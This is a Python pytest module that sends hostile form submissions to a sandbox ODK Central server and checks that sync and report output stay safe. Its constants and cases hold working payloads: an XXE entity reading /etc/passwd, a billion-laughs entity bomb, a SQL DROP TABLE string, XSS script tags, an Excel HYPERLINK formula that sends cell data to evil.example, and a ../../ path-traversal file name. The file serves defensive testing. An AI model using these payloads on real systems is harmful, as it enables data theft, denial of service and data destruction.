"""Hostile submissions over OpenRosa, end to end: app user → sandbox Central → sync → findings.

Each hostile `province_consultation` submission is POSTed as Collect does; then one sync loads
the form into SQLite and the findings are rendered (HTML + workbook). For every case the
submission was either refused at the door with a 4xx (XXE, billion laughs) or is in
`submissions` with the verdict expected of it: never silently dropped, never run.
"""

from __future__ import annotations

import glob
import html
import re
import tempfile
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path

import pytest
import requests
from openpyxl import load_workbook
from sqlalchemy import inspect, select, text

from consult.central import (
    BuiltForm,
    CentralError,
    CentralSession,
    CentralSettings,
    collect_session,
    deploy_forms,
    ensure_teams,
    resolve_project,
    submission_ids,
    submit,
)
from consult.central.openrosa import submission_url
from consult.central.teams import FieldTeam
from consult.fieldwork import fieldwork
from consult.findings import compute_findings, write_html, write_workbook
from consult.sandbox import SandboxServer
from consult.sync import FormSync, SyncOptions
from consult.warehouse.database import create_engine_for
from consult.warehouse.failures import failures_of
from consult.warehouse.tables import submissions

from ..conftest import BuiltForms
from ..fieldwork_central import PROJECT

FORM = "province_consultation"
SQL = "'); DROP TABLE submissions; --"
SCRIPT = '<script>alert("xss")</script><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"bấm vào đây")'
BIG = ("Ý kiến rất dài của tỉnh về hệ thống giám sát. " * 120_000)[:5_000_000]
XXE = b'<!DOCTYPE data [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
LAUGHS = (b'<!DOCTYPE data [<!ENTITY lol "lol">'
          + b"".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode()
                     for i in range(1, 10))
          + b"]>")
ESCAPE = "../../escape.jpg"


@dataclass
class Case:
    kind: str
    instance_id: str
    xml: bytes
    attachments: dict[str, bytes] = field(default_factory=dict)
    refused: CentralError | None = None
    seconds: float = 0.0


def _with(xml: bytes, tag: str, value: str) -> bytes:
    """The XML with `<tag>` holding `value` (escaped as Collect would)."""
    new = f"<{tag}>{html.escape(value, quote=False)}</{tag}>".encode()
    out, n = re.subn(rb"<%s>[^<]*</%s>|<%s/>" % (tag.encode(), tag.encode(), tag.encode()), lambda _: new, xml,
                     count=1)
    assert n == 1, tag
    return out


def _cases(interviews) -> list[Case]:
    base = iter(interviews)

    def case(kind: str, change) -> Case:
        iv = next(base)
        return Case(kind, iv.instance_id, change(iv.xml))

    def meta_first_cut(xml: bytes) -> bytes:
        meta = re.search(rb"<meta>.*</meta>", xml).group(0)
        body = xml.replace(meta, b"")
        head, rest = body.split(b"<start_time>", 1)
        moved = head + meta + b"<start_time>" + rest
        return moved[:moved.index(b"<commitment>") + len(b"<commitment><staff_da")]

    cases = [
        case("truncated: closing tags cut", lambda x: x[:x.index(b"</instanceID>")]),
        case("truncated: mid-answer, required answers lost", meta_first_cut),
        case("invalid UTF-8 bytes", lambda x: x.replace(b"<respondent_name>", b"<respondent_name>\xff\xfe\xc3(")),
        case("5 MB text answer", lambda x: _with(x, "comments", BIG)),
        case("DOCTYPE with external entity (XXE)",
             lambda x: x.replace(b"?>\n", b"?>\n" + XXE, 1).replace(b"<comments/>", b"<comments>&xxe;</comments>")),
        case("billion laughs",
             lambda x: x.replace(b"?>\n", b"?>\n" + LAUGHS, 1).replace(b"<comments/>", b"<comments>&lol9;</comments>")),
        case("unknown extra elements",
             lambda x: x.replace(b"<meta>", b"<evil_field>boom</evil_field><extra><x>1</x></extra><meta>")
                        .replace(b"<commitment>", b"<commitment><staff_hours>12</staff_hours>")),
        case("wrong type: staff_days = nhiều", lambda x: _with(x, "staff_days", "nhiều")),
        case("wrong type: budget_mvnd = 1e999", lambda x: _with(x, "budget_mvnd", "1e999")),
        case("SQL meta characters", lambda x: _with(_with(x, "respondent_name", SQL), "comments", SQL)),
        case("HTML/script in text", lambda x: _with(_with(x, "constraints", SCRIPT), "comments", SCRIPT)),
        case("Excel formula in text", lambda x: _with(_with(x, "constraints", FORMULA), "comments", FORMULA)),
    ]
    iv = next(base)
    cases.append(Case("attachment named ../../escape.jpg", iv.instance_id, iv.xml,
                      {ESCAPE: b"\xff\xd8\xff\xe0 not really a jpeg"}))
    return cases


@dataclass
class Run:
    server: SandboxServer
    settings: CentralSettings
    project_id: int
    cases: dict[str, Case]
    engine: object
    summary: object
    sync_seconds: float
    html_path: Path
    xlsx_path: Path
    live: set[str]
    probe_seconds: float


def _escapes() -> list[str]:
    roots = {Path(tempfile.gettempdir()), Path.cwd()}
    found = []
    for root in roots:
        for pattern in ("escape.jpg", "*/escape.jpg", "*/*/escape.jpg", "*/*/*/escape.jpg"):
            found += glob.glob(str(root / pattern))
    return sorted(set(found))


@pytest.fixture(scope="module")
def run(built_forms: BuiltForms, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Run]:
    before = _escapes()
    schema = built_forms.schema(FORM)
    interviews = [i for i in fieldwork({FORM: schema}, seed=11, scale=0.3, mistake_rate=0.0) if i.form_id == FORM]
    cases = _cases(interviews)
    out = tmp_path_factory.mktemp("hostile")
    with SandboxServer() as server:
        settings = CentralSettings(url=server.url, username=server.admin_email, password=server.admin_password,
                                   project=PROJECT, backoff=0.05)
        with CentralSession(settings) as central:
            project_id = resolve_project(central, PROJECT)
            deploy_forms(central, project_id, [BuiltForm.load(built_forms.out_dir, FORM)])
            (team,) = ensure_teams(central, project_id, [FieldTeam(name="Đội thử phá", forms=[FORM])])
        with collect_session(retries=0) as session:
            for case in cases:
                started = time.perf_counter()
                try:
                    submit(session, settings.base_url, project_id, team.token, case.xml, case.attachments)
                except CentralError as exc:
                    case.refused = exc
                case.seconds = time.perf_counter() - started
            started = time.perf_counter()
            probe = session.head(submission_url(settings.base_url, project_id, team.token), timeout=5)
            probe_seconds = time.perf_counter() - started
            assert probe.status_code == 204
        engine = create_engine_for(f"sqlite:///{out / 'reporting.db'}")
        started = time.perf_counter()
        with CentralSession(settings) as central:
            summary = FormSync(central, engine, project_id, schema, SyncOptions(page_size=40)).run()
            live = submission_ids(central, project_id, FORM)
        sync_seconds = time.perf_counter() - started
        findings = compute_findings(engine, {FORM: schema}, lang="vi")
        html_path = write_html(findings, out / "findings-vi.html")
        xlsx_path = write_workbook(findings, out / "findings-vi.xlsx")
        yield Run(server, settings, project_id, {c.kind: c for c in cases}, engine, summary, sync_seconds,
                  html_path, xlsx_path, live, probe_seconds)
        escaped = [p for p in _escapes() if p not in before]
        data_dir = server.data_dir
        assert data_dir is not None
        inside = list(data_dir.rglob("escape.jpg"))
        assert escaped == [] and inside == [], (escaped, inside)
        engine.dispose()


def _row(run: Run, case: Case) -> dict | None:
    with run.engine.connect() as conn:
        found = conn.execute(text(f"SELECT * FROM {FORM} WHERE _instance_id = :i"), {"i": case.instance_id})
        row = found.mappings().first()
    return dict(row) if row else None


def _status(run: Run, case: Case) -> str | None:
    with run.engine.connect() as conn:
        return conn.execute(select(submissions.c.validation_status).where(
            submissions.c.instance_id == case.instance_id)).scalar_one_or_none()


def _rules(run: Run, case: Case) -> set[str]:
    with run.engine.connect() as conn:
        return {f.rule for f in failures_of(conn, run.project_id, FORM, case.instance_id)}


ACCEPTED = ["truncated: closing tags cut", "truncated: mid-answer, required answers lost",
                        "invalid UTF-8 bytes", "5 MB text answer", "unknown extra elements",
                        "wrong type: staff_days = nhiều", "wrong type: budget_mvnd = 1e999", "SQL meta characters",
                        "HTML/script in text", "Excel formula in text", "attachment named ../../escape.jpg"]
REFUSED = ["DOCTYPE with external entity (XXE)", "billion laughs"]


def test_every_case_is_refused_at_the_door_or_in_submissions_once(run: Run, hardening_tally) -> None:
    assert set(run.cases) == set(ACCEPTED) | set(REFUSED)
    with run.engine.connect() as conn:
        rows = conn.execute(select(submissions.c.instance_id)).scalars().all()
    for kind, case in run.cases.items():
        stored = rows.count(case.instance_id)
        lost = int(case.refused is None and stored == 0)
        duplicated = max(stored - 1, 0)
        hardening_tally(f"hostile submission: {kind}", lost=lost, duplicated=duplicated)
        assert not lost and not duplicated, kind
        if case.refused is not None:
            assert stored == 0 and case.instance_id not in run.live, kind
    assert run.summary.pulled == len(ACCEPTED) and len(rows) == len(ACCEPTED)
    assert run.sync_seconds < 20


@pytest.mark.parametrize("kind", REFUSED)
def test_doctype_and_entities_are_refused_without_expansion(run: Run, kind: str) -> None:
    case = run.cases[kind]
    assert case.refused is not None, "a DOCTYPE must not be accepted"
    assert case.refused.status == 400 and "DOCTYPE" in str(case.refused)
    assert case.seconds < 2, "refused before any expansion"
    assert run.probe_seconds < 1, "the server answers the next request at once"
    with run.engine.connect() as conn:
        raw = "\n".join(conn.execute(select(submissions.c.raw_json)).scalars())
    assert "root:" not in raw and "lollollol" not in raw
    assert "root:" not in run.html_path.read_text(encoding="utf-8")


def test_truncated_xml_is_stored_and_what_was_cut_is_null(run: Run) -> None:
    closing = run.cases["truncated: closing tags cut"]
    assert closing.refused is None and _status(run, closing) == "valid"
    row = _row(run, closing)
    assert row["respondent_name"] and row["staff_days"] is not None

    cut = run.cases["truncated: mid-answer, required answers lost"]
    assert cut.refused is None
    row = _row(run, cut)
    assert row is not None and row["respondent_name"] and row["staff_days"] is None
    assert _status(run, cut) == "quarantined" and "required" in _rules(run, cut)


def test_invalid_utf8_is_stored_with_replacement_characters(run: Run) -> None:
    case = run.cases["invalid UTF-8 bytes"]
    if case.refused is not None:
        assert case.refused.status == 400
        return
    row = _row(run, case)
    assert row is not None and "\ufffd" in row["respondent_name"]


def test_a_5_mb_answer_is_loaded_whole_and_the_report_stays_well_formed(run: Run) -> None:
    case = run.cases["5 MB text answer"]
    assert case.refused is None
    assert _row(run, case)["comments"] == BIG
    assert _status(run, case) in ("valid", "quarantined")
    _assert_well_formed(run.html_path.read_text(encoding="utf-8"))


def test_unknown_elements_are_ignored_and_the_known_values_load(run: Run) -> None:
    case = run.cases["unknown extra elements"]
    assert case.refused is None and _status(run, case) == "valid"
    row = _row(run, case)
    expected = re.search(rb"<respondent_name>([^<]*)<", case.xml).group(1).decode()
    staff = int(re.search(rb"<staff_days>(\d+)<", case.xml).group(1))
    assert row["respondent_name"] == expected and row["staff_days"] == staff
    assert not any("evil" in c or "staff_hours" in c for c in row)


@pytest.mark.parametrize("kind", ["wrong type: staff_days = nhiều", "wrong type: budget_mvnd = 1e999"])
def test_wrong_types_are_quarantined(run: Run, kind: str) -> None:
    case = run.cases[kind]
    assert case.refused is None
    assert _status(run, case) == "quarantined"
    rules = _rules(run, case)
    # Central's OData turns what parseInt/parseFloat cannot read (NaN, Infinity) into null, so
    # the sync sees a missing required answer, not the bad text: `required` is the verdict then.
    assert rules & {"value_type", "range", "required"}, rules


def test_sql_meta_characters_are_stored_verbatim_and_the_tables_stay(run: Run) -> None:
    case = run.cases["SQL meta characters"]
    row = _row(run, case)
    assert row["respondent_name"] == SQL and row["comments"] == SQL
    tables = set(inspect(run.engine).get_table_names())
    assert {"submissions", "validation_failures", FORM} <= tables
    with run.engine.connect() as conn:
        assert conn.execute(text("SELECT count(*) FROM submissions")).scalar_one() == len(ACCEPTED)


def test_script_is_escaped_in_html_and_a_formula_is_a_string_cell(run: Run) -> None:
    for kind, value in (("HTML/script in text", SCRIPT), ("Excel formula in text", FORMULA)):
        case = run.cases[kind]
        assert _status(run, case) == "valid", _rules(run, case)
        row = _row(run, case)
        assert row["constraints"] == value and row["comments"] == value
    page = run.html_path.read_text(encoding="utf-8")
    assert SCRIPT not in page and "alert(" not in page.replace(html.escape(SCRIPT), "")
    assert html.escape(SCRIPT) in page or html.escape(SCRIPT, quote=False) in page, "the answer is shown, escaped"
    _assert_well_formed(page)
    book = load_workbook(run.xlsx_path)
    cells = [c for ws in book.worksheets for r in ws.iter_rows() for c in r
             if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells, "the formula answer is in the workbook"
    for cell in cells:
        assert cell.data_type == "s" and cell.value.lstrip("'") == FORMULA, (cell.value, cell.data_type)
    assert all(c.value == SCRIPT for ws in book.worksheets for r in ws.iter_rows() for c in r
               if isinstance(c.value, str) and "<script>" in c.value)


def test_an_attachment_named_dot_dot_is_stored_inert(run: Run) -> None:
    case = run.cases["attachment named ../../escape.jpg"]
    assert case.refused is None and _status(run, case) == "valid"
    data_dir = run.server.data_dir
    for base in (data_dir, data_dir / "blobs", *data_dir.glob("blobs/*")):
        assert not (base / ESCAPE).resolve().exists()
    assert not list(data_dir.rglob("escape.jpg"))
    # the full sweep of the temp dirs runs when the sandbox closes (module fixture teardown)


def test_the_server_still_answers_after_the_hostile_round(run: Run) -> None:
    response = requests.get(f"{run.server.url}/sandbox/health", timeout=2)
    assert response.status_code == 200
    assert run.server._process is not None and run.server._process.poll() is None


class _Balance(HTMLParser):
    VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "track", "wbr",
            "circle", "rect", "path", "line", "polyline", "polygon", "text", "g", "svg", "title", "tspan", "ellipse",
            "stop", "use", "defs", "lineargradient"}

    def __init__(self) -> None:
        super().__init__()
        self.stack: list[str] = []
        self.scripts = 0

    def handle_starttag(self, tag, attrs) -> None:
        self.scripts += tag == "script"
        if tag in ("html", "body", "table", "section", "main"):
            self.stack.append(tag)

    def handle_endtag(self, tag) -> None:
        if tag in ("html", "body", "table", "section", "main"):
            assert self.stack and self.stack[-1] == tag, (self.stack[-3:], tag)
            self.stack.pop()


def _assert_well_formed(page: str) -> None:
    parser = _Balance()
    parser.feed(page)
    parser.close()
    assert parser.stack == [], parser.stack
    assert parser.scripts <= page.count("<script"), "no script element comes from an answer"
    assert page.rstrip().endswith("</html>")
